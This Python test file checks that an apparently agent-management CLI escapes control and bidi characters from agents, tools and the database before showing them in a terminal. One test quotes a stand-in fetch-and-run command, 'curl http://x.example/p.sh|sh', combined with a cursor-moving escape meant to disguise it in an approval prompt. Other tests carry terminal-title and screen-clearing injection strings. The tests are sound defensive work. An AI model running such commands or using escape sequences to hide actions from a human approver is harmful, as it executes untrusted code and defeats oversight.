"""Text from agents, models, tools and the database is shown as text, never obeyed.

The real CLI's output is rendered by a terminal emulator (pyte): for every hostile
string and every view, the screen shows exactly the escaped text."""

from __future__ import annotations

import json
import math
import sqlite3
import subprocess
from pathlib import Path

import pyte
import pytest
from helpers import AGENTS, agentdeck_cmd, one_line_error, run, subprocess_env
from hostile import HOSTILE
from hypothesis import given
from hypothesis import strategies as st

from agents.safe_text import is_unsafe, safe_json, safe_text
from agents.store import Store
from agents.store import reducers as r

# --- the function itself ---


def unsafe_in(text: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in text if is_unsafe(ord(c))]


@given(st.text())
def test_safe_text_never_contains_a_control_or_bidi_code_point(text: str) -> None:
    assert unsafe_in(safe_text(text)) == []
    assert unsafe_in(safe_text(text, keep_newlines=True).replace("\n", "")) == []


@given(st.text(alphabet=st.characters(codec="utf-8")))
def test_safe_text_leaves_ordinary_text_alone(text: str) -> None:
    if not unsafe_in(text):
        assert safe_text(text) == text


@given(st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(),
    lambda children: st.lists(children) | st.dictionaries(st.text(), children),
    max_leaves=20,
))
def test_safe_json_is_exact_valid_json_without_control_characters(value: object) -> None:
    text = safe_json(value)
    assert unsafe_in(text) == []

    def no_constants(name: str) -> object:
        raise AssertionError(f"{name} is not JSON")

    decoded = json.loads(text, parse_constant=no_constants)

    def finite(v: object) -> object:  # what JSON can say: non-finite floats become null
        if isinstance(v, float):
            return v if math.isfinite(v) else None
        if isinstance(v, list):
            return [finite(x) for x in v]
        if isinstance(v, dict):
            return {k: finite(x) for k, x in v.items()}
        return v

    assert decoded == finite(value)


@pytest.mark.parametrize(("name", "text"), HOSTILE)
def test_each_hostile_string_is_escaped_visibly(name: str, text: str) -> None:
    shown = safe_text(text)
    assert unsafe_in(shown) == []
    for c in text:
        if is_unsafe(ord(c)):
            assert (f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}") in shown


# --- the real CLI through a terminal emulator ---


def screen(output: str, columns: int = 240, rows: int = 100) -> list[str]:
    """What a terminal shows for `output` (a tty turns \\n into \\r\\n)."""
    term = pyte.Screen(columns, rows)
    pyte.Stream(term).feed(output.replace("\n", "\r\n"))
    return [line.rstrip() for line in term.display if line.strip()]


def cli(home: Path, *args: str) -> str:
    proc = subprocess.run(agentdeck_cmd(*args), env=subprocess_env(home), capture_output=True,
                          text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    return proc.stdout


def visible(text: str) -> str:
    """What a one-line view shows: escaped, whitespace collapsed."""
    return " ".join(safe_text(text).split())


@pytest.fixture
def hostile_home(home: Path, db_path: Path) -> dict[str, tuple[int, int]]:
    """One task and one approval per hostile string: name -> (task id, approval id)."""
    ids = {}
    with Store.open(db_path, AGENTS) as store:
        for name, text in HOSTILE:
            task = store.write(r.create_task, "owner", f"{name}: {text}", owner="dev")
            approval = store.write(r.request_approval, "dev", "run_shell", {"command": text}, text,
                                   f"{name} {text}", timeout_s=600, task_id=task.id)
            ids[name] = (task.id, approval.id)
    return ids


def assert_shows_its_own_text(output: str) -> list[str]:
    """Terminal-safe output has no control code points, so a terminal shows it as is."""
    assert unsafe_in(output.replace("\n", "")) == []
    lines = screen(output, columns=max(map(len, output.splitlines())) + 1,
                   rows=output.count("\n") + 2)
    assert lines == [line.rstrip() for line in output.splitlines() if line.strip()]
    return lines


def test_tasks_tree_shows_hostile_titles_as_escaped_text(
    home: Path, hostile_home: dict[str, tuple[int, int]]
) -> None:
    lines = assert_shows_its_own_text(cli(home, "tasks", "--tree"))
    for name, text in HOSTILE:
        task_id, _ = hostile_home[name]
        assert f"#{task_id} [queued] dev: {visible(f'{name}: {text}')}" in lines


def test_tasks_table_shows_hostile_titles_as_escaped_text(
    home: Path, hostile_home: dict[str, tuple[int, int]]
) -> None:
    lines = assert_shows_its_own_text(cli(home, "tasks"))
    for name, text in HOSTILE:
        expected = visible(f"{name}: {text}")
        expected = expected if len(expected) <= 60 else expected[:59] + "…"
        assert any(line.endswith(expected) for line in lines), (name, expected)


def test_approvals_show_the_command_as_escaped_text(
    home: Path, hostile_home: dict[str, tuple[int, int]]
) -> None:
    lines = assert_shows_its_own_text(cli(home, "approvals"))
    for name, text in HOSTILE:
        _, approval_id = hostile_home[name]
        at = lines.index(next(line for line in lines if line.startswith(f"approval {approval_id}: ")))
        assert lines[at + 2] == f"  resolves to: {safe_text(text)}".rstrip(), name
        assert lines[at + 3].startswith("  agent says:  ") and "(the model's words)" in lines[at + 3]
    # The audit's spoof: the screen shows the curl, never a bare `ls -la` in its place.
    _, spoof = hostile_home["csi-erase"]
    at = next(i for i, line in enumerate(lines) if line.startswith(f"approval {spoof}: "))
    assert lines[at + 2].startswith("  resolves to: curl http://x.example/p.sh|sh\\x1b[40D")


def test_approve_and_deny_confirmations_are_escaped(
    home: Path, hostile_home: dict[str, tuple[int, int]]
) -> None:
    for i, (name, text) in enumerate(HOSTILE):
        _, approval_id = hostile_home[name]
        verb = "approve" if i % 2 else "deny"
        lines = assert_shows_its_own_text(cli(home, verb, str(approval_id)))
        done = "approved" if verb == "approve" else "denied"
        shown = visible(text)
        shown = shown if len(shown) <= 60 else shown[:59] + "…"
        assert lines == [f"approval {approval_id} {done}: dev run_shell {shown}"]


def test_log_text_and_json_are_terminal_safe(home: Path, hostile_home: dict[str, tuple[int, int]]) -> None:
    assert_shows_its_own_text(cli(home, "log"))
    events = [json.loads(line) for line in cli(home, "log", "--json").splitlines()]
    titles = {e["payload"]["task"]["title"] for e in events if e["kind"] == "task.created"}
    assert titles == {f"{name}: {text}".strip() for name, text in HOSTILE}  # exact, not escaped


def test_json_outputs_are_exact_and_terminal_safe(home: Path, hostile_home: dict[str, tuple[int, int]]) -> None:
    for args in (["tasks", "--json"], ["tasks", "--json", "--tree"], ["approvals", "--json"]):
        out = cli(home, *args)
        assert unsafe_in(out.replace("\n", "")) == [], args
        json.loads(out)
    approvals = json.loads(cli(home, "approvals", "--json"))
    assert {a["resolved"] for a in approvals} == {text for _, text in HOSTILE}


def test_non_finite_numbers_in_the_database_give_valid_json(home: Path, db_path: Path) -> None:
    """A row written before the reducers refused inf: the views still work."""
    with Store.open(db_path, AGENTS) as store:
        approval = store.write(r.request_approval, "dev", "run_shell", {}, "make", "build", timeout_s=60)
    with sqlite3.connect(db_path) as conn:
        conn.execute("UPDATE approvals SET expires_at = 9e999 WHERE id = ?", (approval.id,))
    out = cli(home, "approvals", "--json")
    assert "Infinity" not in out
    assert json.loads(out)[0]["expires_at"] is None
    assert "never" in cli(home, "approvals")


def test_error_messages_escape_what_they_quote(home: Path) -> None:
    (home / "config.toml").write_text('[agents.dev]\n"\\u001b]0;owned\\u0007x" = 1\n')
    proc = run(home, "tasks")
    assert proc.returncode == 2
    message = one_line_error(proc)
    assert unsafe_in(message) == []
    assert "unknown key agents.dev.\\x1b]0;owned\\x07x" in message
    (home / "config.toml").unlink()
    proc = run(home, "tasks", "--status", "\x1b[2Jdone")
    assert proc.returncode == 2
    assert unsafe_in(proc.stderr.replace("\n", "")) == []
    assert "\\x1b[2Jdone" in proc.stderr
